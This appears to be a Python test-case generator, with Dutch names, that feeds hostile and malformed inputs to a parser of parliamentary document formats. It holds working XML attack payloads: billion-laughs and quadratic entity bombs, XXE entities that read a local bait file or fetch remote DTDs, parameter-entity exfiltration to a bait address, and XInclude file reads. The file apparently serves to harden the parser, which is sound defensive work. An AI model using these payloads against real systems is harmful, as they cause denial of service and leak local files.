"""Bommen, lekken en rommel in elk formaat dat uit XML bestaat, los of in een zip."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from bouwstenen import (
    KOP,
    MAAL,
    Geval,
    Lokaas,
    docx_alinea,
    docx_delen,
    geval,
    ods_delen,
    ods_rij,
    odt_delen,
    officieel,
    parlamint,
    vlos,
    xlsx_delen,
    xlsx_rij,
    zip_van,
)

#: Een document om iets in te stoppen: van (tekst als XML, doctype) naar bytes, met een wortel van deze naam.
Drager = Callable[[str, str], bytes]
#: Soorten die hun XML lezen zoals een andere dat doet.
_ALS_ANDERE = frozenset(["officieel", "parlamint", "ods"])


def gevallen(lokaas: Lokaas) -> Iterator[Geval]:
    for soort, (wortel, achtervoegsel, drager) in _DRAGERS.items():
        for naam, tekst, doctype in _entiteiten(wortel, lokaas):
            yield _geval(soort, naam, achtervoegsel, lambda d=drager, t=tekst, h=doctype: d(t, h))
        for naam, maak in _rommel(lokaas).items():
            yield _geval(soort, naam, achtervoegsel, lambda d=drager, m=maak: d(m(), ""), lang=soort in _ALS_ANDERE)
    for soort in ("vlos", "officieel", "parlamint"):
        _, achtervoegsel, drager = _DRAGERS[soort]
        heel = drager("Ik woon naast de brug.", "").decode()
        for naam, inhoud in _coderingen(heel):
            yield _geval(soort, naam, achtervoegsel, lambda i=inhoud: i, lang=soort in _ALS_ANDERE)
    for soort, deel in _DELEN.items():
        yield from _kapotte_delen(soort, deel)
    yield from _los(lokaas)


def _geval(soort: str, naam: str, achtervoegsel: str, maak: Callable[[], bytes], *, lang: bool = False) -> Geval:
    return Geval(f"{soort}: {naam}", f"{soort}-{naam}{achtervoegsel}", maak, lang)


def _entiteiten(wortel: str, lokaas: Lokaas) -> Iterator[tuple[str, str, str]]:
    """Naam, tekst en doctype van elke aanval met entiteiten of een DTD."""
    lach = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield "lachbom", "&l9;", f'<!DOCTYPE {wortel} [<!ENTITY l0 "ha">{lach}]>'
    yield "kwadraat", "&a;" * 20_000, f'<!DOCTYPE {wortel} [<!ENTITY a "{"a" * 20_000}">]>'
    yield "kringloop", "&a;", f'<!DOCTYPE {wortel} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
    yield "extern bestand", "&x;", f'<!DOCTYPE {wortel} [<!ENTITY x SYSTEM "file://{lokaas.bestand}">]>'
    yield "extern adres", "&x;", f'<!DOCTYPE {wortel} [<!ENTITY x SYSTEM "{lokaas.adres}/entiteit">]>'
    yield "DTD van een adres", "tekst", f'<!DOCTYPE {wortel} SYSTEM "{lokaas.adres}/kwaad.dtd">'
    yield "DTD van een netwerkpad", "tekst", f'<!DOCTYPE {wortel} SYSTEM "file:////127.0.0.1/deel/kwaad.dtd">'
    yield (
        "parameterentiteit",
        "tekst",
        f'<!DOCTYPE {wortel} [<!ENTITY % f SYSTEM "file://{lokaas.bestand}"><!ENTITY % d SYSTEM '
        f'"{lokaas.adres}/uit.dtd">%d;]>',
    )


def _rommel(lokaas: Lokaas) -> dict[str, Callable[[], str]]:
    """Wat er, heel of half, zonder DTD in een document kan staan."""
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude" parse="text"'
    return {
        "honderdduizend lagen": lambda: "<a>" * 100_000 + "diep" + "</a>" * 100_000,
        "honderdduizend kenmerken": lambda: "<a" + _genummerd(' k{}="1"', 100_000) + ">veel</a>",
        "twintigduizend naamruimten": lambda: "<a" + _genummerd(' xmlns:n{0}="u:{0}"', 20_000) + ">veel</a>",
        "een kenmerk van 1 MB": lambda: '<a k="' + "k" * 1_000_000 + '">lang</a>',
        "commentaar van 1 MB": lambda: f"<!--{'c' * 1_000_000}-->tekst",
        "CDATA met opmaak": lambda: "<![CDATA[<script>alert(1)</script>]]>" * 1000,
        "XInclude": lambda: (
            f'<xi:include {xi} href="file://{lokaas.bestand}"/><xi:include {xi} href="{lokaas.adres}/x"/>tekst'
        ),
        "opmaakblad": lambda: f'<?xml-stylesheet type="text/xsl" href="{lokaas.adres}/x.xsl"?>tekst',
        "onbekende entiteit": lambda: "&bestaat-niet;",
        "verboden teken": lambda: "voor &#0; na &#xD800; eind &#x110000;",
        "half element": lambda: "<a><b>open",
    }


def _genummerd(vorm: str, aantal: int) -> str:
    return "".join(vorm.format(n) for n in range(aantal))


def _coderingen(heel: str) -> Iterator[tuple[str, bytes]]:
    kaal = heel.removeprefix(KOP)
    yield "utf-16 met merk", heel.replace("UTF-8", "UTF-16").encode("utf-16")
    yield "utf-16 zonder merk", heel.replace("UTF-8", "UTF-16").encode("utf-16-le")
    yield "utf-16 met DTD", heel.replace(KOP, '<!DOCTYPE a [<!ENTITY a "b">]>').encode("utf-16")
    yield "zegt utf-7", ('<?xml version="1.0" encoding="UTF-7"?>' + kaal).encode()
    yield "zegt een codering die niet bestaat", ('<?xml version="1.0" encoding="kwaad-1"?>' + kaal).encode()
    yield "zegt rot13", ('<?xml version="1.0" encoding="rot13"?>' + kaal).encode()
    yield "zegt zlib", ('<?xml version="1.0" encoding="zlib_codec"?>' + kaal).encode()
    yield "zegt idna", ('<?xml version="1.0" encoding="idna"?>' + kaal).encode()
    yield "zegt unicode_escape", ('<?xml version="1.0" encoding="unicode_escape"?>' + kaal).encode()
    yield "cp1252 in utf-8", heel.encode().replace(b"brug", b"br\xfcg \x93x\x94")
    yield "dubbel gecodeerd", heel.replace("brug", "cliënten café €").encode().decode("cp1252").encode()
    yield "halve surrogaten", heel.encode().replace(b"brug", b"\xed\xa0\x80\xed\xb0\x80")
    yield "nulbytes", heel.encode().replace(b"brug", b"br\x00ug")
    yield "half", heel.encode()[: len(heel) // 2]
    yield "tweemaal", (heel + heel).encode()
    yield "rommel ervoor en erna", b"\xff\xfe\x00" + b"\r\n" * 1000 + heel.encode() + b"\x00" * 1000


def _kapotte_delen(soort: str, deel: str) -> Iterator[Geval]:
    """Een document in een zip waarvan het deel met de tekst iets anders is."""
    _, achtervoegsel, _ = _DRAGERS[soort]
    delen = _ALLE_DELEN[soort]

    def met(naam: str, inhoud: bytes | None) -> Geval:
        nieuw = {n: d for n, d in delen.items() if n != deel or inhoud is not None}
        if inhoud is not None:
            nieuw[deel] = inhoud
        return Geval(f"{soort}: {naam}", f"{soort}-{naam}{achtervoegsel}", lambda: zip_van(nieuw))

    yield met("het deel is leeg", b"")
    yield met("het deel is rommel", bytes(range(256)) * 40)
    yield met("het deel is een andere soort XML", b"<html><body>x</body></html>")
    yield met("het deel is utf-16 met DTD", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16"))
    ruw = delen[deel]
    heel = ruw.encode() if isinstance(ruw, str) else ruw
    yield met("het deel is half", heel[: len(heel) // 2])
    yield met("het deel ontbreekt", None)


def _los(lokaas: Lokaas) -> Iterator[Geval]:
    yield geval("xml: onbekende soort", "onbekend.xml", f"{KOP}<recept><stap>roer</stap></recept>")
    yield geval("xml: alleen een kop", "kop.xml", KOP)
    yield geval("xml: geen wortel", "geen-wortel.xml", f"{KOP}<!-- leeg -->")
    yield geval("xml: rss met lokaas", "rss.xml", f"{KOP}<rss><channel><link>{lokaas.adres}/rss</link></channel></rss>")
    yield geval(
        "xml: svg", "plaat.xml", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>x</text></svg>'
    )
    yield geval("xml: honderdduizend lagen vlosCoreDocument", "lagen.xml", "<vlosCoreDocument>" * 100_000)
    yield geval("xml: TEI zonder uitspraken", "tei.xml", f"{KOP}<TEI><text><body/></text></TEI>")
    yield geval("xml: vlos zonder vergadering", "vlos-leeg.xml", f"{KOP}<vlosCoreDocument/>")
    yield geval(
        "xml: vlos met veel sprekers",
        "vlos-sprekers.xml",
        vlos().replace(
            "<activiteititem>",
            "<activiteititem>"
            + "".join(
                f"<woordvoerder><spreker><verslagnaam>Naam{n}</verslagnaam></spreker><tekst><alinea><alineaitem>Ja."
                "</alineaitem></alinea></tekst></woordvoerder>"
                for n in range(300 * MAAL)
            ),
        ),
    )
    yield geval(
        "xml: officieel met dertig lagen spreekbeurten",
        "lagen-spreekbeurt.xml",
        officieel("<spreekbeurt><tekst><al>" * 30 + "diep" + "</al></tekst></spreekbeurt>" * 30),
    )
    yield geval(
        "xml: parlamint met honderd lagen woorden",
        "lagen-woorden.xml",
        parlamint("<w>" * 90 + "diep" + "</w>" * 90),
    )


def _vlos(tekst: str, doctype: str) -> bytes:
    return vlos(tekst, doctype).encode()


def _officieel(tekst: str, doctype: str) -> bytes:
    return officieel(tekst, doctype).encode()


def _parlamint(tekst: str, doctype: str) -> bytes:
    return parlamint(tekst, doctype).encode()


def _docx(tekst: str, doctype: str) -> bytes:
    return zip_van(docx_delen(docx_alinea("Een.") + docx_alinea(tekst), doctype))


def _odt(tekst: str, doctype: str) -> bytes:
    return zip_van(odt_delen(f"<text:p>Een.</text:p><text:p>{tekst}</text:p>", doctype))


def _ods(tekst: str, doctype: str) -> bytes:
    return zip_van(ods_delen(ods_rij("spreker", "tekst") + ods_rij("Keuning", tekst), doctype))


def _xlsx(tekst: str, doctype: str) -> bytes:
    return zip_van(xlsx_delen(xlsx_rij("spreker", "tekst") + xlsx_rij("Keuning", tekst), doctype))


def _html(tekst: str, doctype: str) -> bytes:
    return f"{doctype}<html><head><title>x</title></head><body><p>Een.</p><p>{tekst}</p></body></html>".encode()


_DRAGERS: dict[str, tuple[str, str, Drager]] = {
    "vlos": ("vlosCoreDocument", ".xml", _vlos),
    "officieel": ("officiele-publicatie", ".xml", _officieel),
    "parlamint": ("TEI", ".xml", _parlamint),
    "docx": ("w:document", ".docx", _docx),
    "odt": ("office:document-content", ".odt", _odt),
    "ods": ("office:document-content", ".ods", _ods),
    "xlsx": ("worksheet", ".xlsx", _xlsx),
    "html": ("html", ".html", _html),
}
_ALLE_DELEN = {
    "docx": docx_delen(docx_alinea("Een.")),
    "odt": odt_delen("<text:p>Een.</text:p>"),
    "ods": ods_delen(ods_rij("tekst") + ods_rij("Een.")),
    "xlsx": xlsx_delen(xlsx_rij("tekst") + xlsx_rij("Een.")),
}
_DELEN = {
    "docx": "word/document.xml",
    "odt": "content.xml",
    "ods": "content.xml",
    "xlsx": "xl/worksheets/sheet1.xml",
}
